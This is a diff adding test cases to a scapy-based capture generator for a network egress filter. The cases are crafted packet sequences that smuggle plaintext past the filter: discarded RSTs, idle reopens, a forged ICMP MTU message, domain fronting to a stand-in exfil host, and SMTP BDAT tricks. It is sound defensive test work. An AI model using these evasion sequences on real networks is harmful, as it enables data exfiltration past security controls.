@@ -44,7 +44,7 @@ from gen_replay import (  # noqa: E402
     tls_appdata,
 )
 from gen_classes import bt_msgs, ovpn_msgs, wg_msgs  # noqa: E402
-from scapy.layers.inet import IP, IPOption_LSRR, TCP, UDP  # noqa: E402
+from scapy.layers.inet import ICMP, IP, IPOption_LSRR, TCP, UDP  # noqa: E402
 from scapy.layers.inet6 import HBHOptUnknown, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop  # noqa: E402
 from scapy.layers.dns import DNS, DNSQR, DNSRR  # noqa: E402
 from scapy.packet import Raw  # noqa: E402
@@ -3489,6 +3489,364 @@ def write_case(outdir, name):
     with open(os.path.join(d, "markers.json"), "w") as f:
         json.dump({k: [m.hex() for m in v] for k, v in markers.items()}, f, indent=1, sort_keys=True)
         f.write("\n")
+
+
+# The header log (hlog.h, docs/stream.md "The header log"): a copy of bytes we
+# read, sent again with other bytes where we read a record header, is refused
+# whatever became of the first copy (a loss after us included).
+
+@case
+def case_after_loss_rewrite(n):
+    """No trick but a loss after us: a record header passes us and is lost
+    on the way on (or the receiver drops it); the same sequence number then
+    carries plaintext, which to us is a retransmission."""
+    cap = Capture()
+    t = tls_established(cap, S1, 44200, E2M, 900, n)
+    base = t.cseq
+    http = http_leak(n)
+    t.raw(True, "PA", tls_appdata(n + "decoy", len(http) - 5), seq=base)
+    t.raw(True, "PA", http, seq=base, gap=200000)
+    t.cseq = base + len(http)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_pmtu_decoy(n):
+    """A link after us with a smaller MTU (1492: PPPoE) drops the client's
+    1500-byte DF decoy after we read it; the router's ICMP fragmentation
+    needed comes back; the client sends plaintext at the same sequence number
+    in two smaller segments: to us retransmissions (red team round 9, F4)."""
+    cap = Capture()
+    t = tls_established(cap, S1, 44201, E2M, 901, n)
+    base = t.cseq
+    decoy = tls_appdata(n + "decoy", 1460 - 5)
+    http = http_leak(n, 1460)
+    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
+    quote = IP(src=S1, dst=E2M, flags="DF", len=1500) / TCP(sport=44201, dport=443, seq=base, ack=t.sseq, flags="PA")
+    cap.emit(l2("192.0.2.1", S1) / IP(src="192.0.2.1", dst=S1) / ICMP(type=3, code=4, nexthopmtu=1492)
+             / Raw(bytes(quote)[:28]), 1000)
+    t.raw(True, "PA", http[:730], seq=base, ipkw={"flags": "DF"})
+    t.raw(True, "PA", http[730:], seq=base + 730, ipkw={"flags": "DF"})
+    t.cseq = base + len(http)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def hold_dup(n, cport, isn, framed_first):
+    """A gap inside a record's body; two held copies of the range after it,
+    one with the next record's header, one with plaintext there; then the
+    gap is filled. The first copy is read, the second goes out after it as
+    a retransmission: a receiver that lost the first after us reads it."""
+    cap = Capture()
+    t = tls_established(cap, S1, cport, E2M, isn, n)
+    rec1 = tls_appdata(n + "c1", 300 - 5)
+    http = http_leak(n)
+    rec2 = tls_appdata(n + "c2", len(http) - 5)
+    base = t.cseq
+    copies = [rec1[200:] + rec2, rec1[200:] + http]
+    if not framed_first:
+        copies.reverse()
+    t.raw(True, "PA", rec1[:100], seq=base)
+    for c in copies:
+        t.raw(True, "PA", c, seq=base + 200)
+    t.raw(True, "PA", rec1[100:200], seq=base + 100)
+    t.cseq = base + 300 + len(http)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_hold_dup_diff(n):
+    return hold_dup(n, 44202, 902, True)
+
+
+@case
+def case_hold_dup_diff_rev(n):
+    return hold_dup(n, 44203, 903, False)
+
+
+@case
+def case_after_hole_rewrite_acked_ok(n):
+    """Must allow: a record's header segment is lost after us and sent again
+    byte for byte long after later records were read and acknowledged up to
+    the hole (the log keeps what the receiver has not acknowledged)."""
+    cap = Capture()
+    t = tls_established(cap, S1, 44204, E2M, 904, n)
+    recs = [tls_appdata(n + "r%d" % i, 400) for i in range(6)]
+    recs[3] = marked_record(passm(n), n + "r3", 400)
+    data = b"".join(recs)
+    base = t.cseq
+    for o in range(0, len(data), 405):
+        t.raw(True, "PA", data[o:o + 405], seq=base + o)
+        t.raw(False, "A", ack=base + min(o + 405, 810))
+    t.raw(True, "PA", data[810:1215], seq=base + 810, gap=300000)
+    t.raw(False, "A", ack=base + len(data))
+    t.cseq = base + len(data)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_after_corrupt_header_ok(n):
+    """Must allow: a segment with a record header arrives corrupted (its sum
+    wrong, its header no TLS header): the receiver drops it, so do we (its
+    sum is checked once what we read breaks the framing), and the good copy
+    follows."""
+    cap = Capture()
+    t = tls_established(cap, S1, 44205, E2M, 905, n)
+    rec = marked_record(passm(n), n + "c", 300)
+    base = t.cseq
+    bad = b"\x99\x99" + rec[2:]
+    t.raw(True, "PA", bad, seq=base, tcpkw={"chksum": 0x1234})
+    t.raw(True, "PA", rec, seq=base, gap=200000)
+    t.cseq = base + len(rec)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_small_records_ok(n):
+    """Must allow: 300 application-data records of 1 to 40 bytes, several to
+    a segment, the server acknowledging every tenth segment: more records
+    than a header log holds are read over the flow's life."""
+    cap = Capture()
+    t = tls_established(cap, S1, 44206, E2M, 906, n)
+    recs = [tls_appdata(n + "s%d" % i, 1 + (i * 7) % 40) for i in range(300)]
+    recs[250] = marked_record(passm(n), n + "s250", 40)
+    i = 0
+    seg = 0
+    while i < len(recs):
+        k = 1 + seg % 4
+        t.data(True, b"".join(recs[i:i + k]), gap=1000)
+        i += k
+        seg += 1
+        if seg % 10 == 0:
+            t.raw(False, "A")
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+# Red team round 11 (helper, against 2998014): a close that only we counted
+# (a RST or FIN the server discards, or one we dropped ourselves), or an idle
+# flow we forgot, then a SYN: the server still holds the old connection (it
+# answers the SYN with a challenge ACK), and the old connection's bytes lay
+# before the new flow's first byte, forwarded unread as retransmissions.
+
+def rst_ignored_reopen(n, cport, send_rst, v6=False, isn_step=100000, server_rst_after=False):
+    """An allowed e2m session; the client sends a RST at its exact next byte
+    that the server discards (send_rst); aduana takes it as the close. Then a
+    SYN on the same ports (a new flow to aduana; the server, still holding
+    the connection, answers with a challenge ACK), then plaintext HTTP at
+    the old connection's next byte, which to aduana's new flow lies before
+    its first byte: a retransmission, forwarded unread."""
+    cap = Capture()
+    c, s = (S6, E2M6) if v6 else (S1, E2M)
+    t = tls_established(cap, c, cport, s, cport - 40000, n)
+    old_next, srv_next = t.cseq, t.sseq
+    send_rst(t, old_next)
+    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+    new_isn = (old_next + isn_step) & 0xFFFFFFFF
+    t.raw(True, "S", seq=new_isn, options=opts, gap=50000)
+    # the server: established, answers the SYN with a challenge ACK (RFC 5961 4.2)
+    t.raw(False, "A", seq=srv_next, ack=old_next)
+    http = http_leak(n)
+    t.raw(True, "PA", http, seq=old_next, ack=srv_next)
+    t.cseq = old_next + len(http)
+    t.raw(False, "A", seq=srv_next, ack=t.cseq)
+    t.raw(False, "PA", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", seq=srv_next, ack=t.cseq)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rst_md5_reopen(n):
+    """The RST carries a TCP-MD5 option: a server without the key drops it (tcp_inbound_hash)."""
+    return rst_ignored_reopen(n, 45101, lambda t, s: t.raw(True, "R", seq=s, options=[(19, prand(n, 16))]))
+
+
+@case
+def case_rst_ao_reopen(n):
+    """The RST carries a TCP-AO option (kind 29)."""
+    return rst_ignored_reopen(n, 45102, lambda t, s: t.raw(True, "R", seq=s, options=[(29, b"\x01\x01" + prand(n, 12))]))
+
+
+@case
+def case_rst_l2other_reopen(n):
+    """The RST in a frame to another unicast MAC (the next hop leaves it on the wire)."""
+    def send(t, s):
+        pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="R", seq=s, window=0)
+        pkt[Ether].dst = "02:00:00:00:00:99"
+        t.cap.emit(pkt, 10000)
+    return rst_ignored_reopen(n, 45103, send)
+
+
+@case
+def case_rst_lsrr_reopen(n):
+    """The RST with an IPv4 loose source route option (hosts drop it)."""
+    def send(t, s):
+        seg = TCP(sport=t.cport, dport=443, flags="R", seq=s, ack=0, window=0)
+        ck = IP(bytes(IP(src=S1, dst=E2M) / seg))[TCP].chksum
+        t.raw(True, "R", seq=s, ipkw={"options": [IPOption_LSRR(routers=["192.0.2.1"])]}, tcpkw={"chksum": ck}, window=0)
+    return rst_ignored_reopen(n, 45104, send)
+
+
+@case
+def case_rst_dstopt6_reopen(n):
+    """IPv6: the RST with a destination option of an unknown type that says discard."""
+    def send(t, s):
+        pkt = IPv6(src=S6, dst=E2M6) / IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)]) \
+            / TCP(sport=t.cport, dport=443, flags="R", seq=s, window=0)
+        t.cap.emit(l2(S6, E2M6, ()) / pkt, 10000)
+    return rst_ignored_reopen(n, 45105, send, v6=True)
+
+
+@case
+def case_rst_bcast_reopen(n):
+    """The RST in a broadcast frame."""
+    def send(t, s):
+        pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="R", seq=s, window=0)
+        pkt[Ether].dst = "ff:ff:ff:ff:ff:ff"
+        t.cap.emit(pkt, 10000)
+    return rst_ignored_reopen(n, 45106, send)
+
+@case
+def case_finnoack_rst_reopen(n):
+    """A FIN without the ACK flag (an established Linux socket discards it: TCP_FLAGS),
+    then a plain RST one past it (aduana: 'exactly past a side's FIN'; the server, whose
+    rcv_nxt is still the FIN's own number, answers it with a challenge ACK). aduana takes
+    the flow as closed; a SYN opens a new flow there and the plaintext at the old next
+    byte passes as a retransmission of it."""
+    def send(t, s):
+        t.raw(True, "F", seq=s)
+        t.raw(False, "A", seq=t.sseq, ack=s)          # no change at the server
+        t.raw(True, "R", seq=s + 1)
+        t.raw(False, "A", seq=t.sseq, ack=s)          # challenge ACK
+    return rst_ignored_reopen(n, 45107, send)
+
+
+@case
+def case_finmd5_rst_reopen(n):
+    """The same with a FIN-ACK carrying a TCP-MD5 option (dropped by tcp_inbound_hash)."""
+    def send(t, s):
+        t.raw(True, "FA", seq=s, options=[(19, prand(n, 16))])
+        t.raw(True, "R", seq=s + 1)
+        t.raw(False, "A", seq=t.sseq, ack=s)
+    return rst_ignored_reopen(n, 45108, send)
+
+
+@case
+def case_dropped_rst_reopen(n):
+    """The flow is dropped first (a record with a TTL one lower: exception:ambiguous), so
+    aduana drops every later packet of it, the RST too, which never reaches the server;
+    yet the dropped RST still marks the flow closed, and a SYN reopens it as a new flow."""
+    def send(t, s):
+        t.raw(True, "PA", tls_appdata(n + "lowttl", 60), seq=s, ipkw={"ttl": 1})   # aduana: ambiguous -> drop
+        t.raw(True, "R", seq=s)                      # dropped by aduana, counted as the close
+    return rst_ignored_reopen(n, 45109, send)
+
+
+@case
+def case_dropped_fin_reopen(n):
+    """The same where the server closes too: a FIN from each side after the drop (the
+    client's dropped by aduana, so the server never gets it; the server's a half-close),
+    then the SYN."""
+    def send(t, s):
+        t.raw(True, "PA", tls_appdata(n + "lowttl", 60), seq=s, ipkw={"ttl": 1})
+        t.raw(True, "FA", seq=s)
+        t.raw(False, "FA", seq=t.sseq, ack=s)
+        t.sseq += 1
+    return rst_ignored_reopen(n, 45110, send)
+
+
+@case
+def case_front_reopen_session(n):
+    """Domain fronting through the shared front, past the SNI check: a ClientHello for
+    exfil.attacker.test to the front is read and dropped (default:e2m-strict); aduana drops
+    the client's exact RST too (the server never sees it) but takes it as the close; a SYN
+    with an ISN 2^30 ahead opens a new, pending flow; the same ClientHello again at the old
+    connection's first byte, and 40 application-data records over 20 s, all before the new
+    flow's first byte: forwarded unread. The CDN serves exfil.attacker.test."""
+    cap = Capture()
+    t = ETcp(cap, S1, 45120, FRONT, 443, isn=5120, rtt_us=20000)
+    t.handshake()
+    first = t.cseq
+    ch = hello(n, sni=EVIL, sid=sid32(leak(n)))
+    t.raw(True, "PA", ch)                 # read: exfil name, dropped
+    t.raw(True, "R", seq=first + len(ch))  # dropped, counted as the close
+    srv = t.sseq
+    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+    t.raw(True, "S", seq=(first + 0x40000000) & 0xFFFFFFFF, options=opts, gap=100000)
+    t.raw(False, "A", seq=srv, ack=first)  # challenge ACK: the server still holds it
+    t.cseq = first
+    t.raw(True, "PA", ch, seq=first, ack=srv)
+    t.cseq += len(ch)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    for i in range(40):
+        t.data(True, marked_record(leak(n), n + "r%d" % i, 300), gap=500000)
+        t.data(False, tls_appdata(n + "s%d" % i, 100))
+    return cap, {"leak": [leak(n)]}
+
+
+def idle_reopen(n, cport, idle_s, syn=True, isn_step=100000):
+    cap = Capture()
+    t = tls_established(cap, S1, cport, E2M, cport - 40000, n)
+    old_next, srv_next = t.cseq, t.sseq
+    cap.idle(idle_s)
+    if syn:
+        opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+        t.raw(True, "S", seq=(old_next + isn_step) & 0xFFFFFFFF, options=opts)
+        t.raw(False, "A", seq=srv_next, ack=old_next)   # challenge ACK
+    http = http_leak(n)
+    t.raw(True, "PA", http, seq=old_next, ack=srv_next)
+    t.cseq = old_next + len(http)
+    t.raw(False, "A", seq=srv_next, ack=t.cseq)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_idle_reopen(n):
+    """An allowed session idle for 3601 s (aduana's tcp timeout is 3600; Linux keeps an
+    idle established connection forever), then a SYN with another ISN on the same ports
+    (a new flow to aduana; a challenge ACK from the server), then plaintext at the old
+    connection's next byte: before the new flow's first byte, a 'retransmission'."""
+    return idle_reopen(n, 45301, 3601)
+
+
+@case
+def case_idle_nosyn(n):
+    """Control: the same idle, then the plaintext without a SYN (midstream)."""
+    return idle_reopen(n, 45302, 3601, syn=False)
+
+
+@case
+def case_smtp_bdat_unannounced(n):
+    """The relay's EHLO reply has no CHUNKING (Postfix with it discarded, Sendmail): BDAT 400
+    with an SSH banner and packet as its 'chunk'. Sendmail reads the chunk as command lines."""
+    cap = Capture()
+    t = ETcp(cap, S1, 45210, MAIL, 25, isn=5210, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    t.data(True, b"MAIL FROM:<a@e2m.customs.example>\r\n")
+    t.data(False, b"250 2.1.0 Ok\r\n")
+    t.data(True, b"RCPT TO:<b@customs.example>\r\n")
+    t.data(False, b"250 2.1.5 Ok\r\n")
+    chunk = SSH_BANNER + ssh_binary(n, leak(n))
+    t.data(True, b"BDAT %d LAST\r\n" % len(chunk) + chunk)
+    t.data(False, b"500 5.5.1 Command unrecognized: \"BDAT\"\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
 
 
 def main(argv):
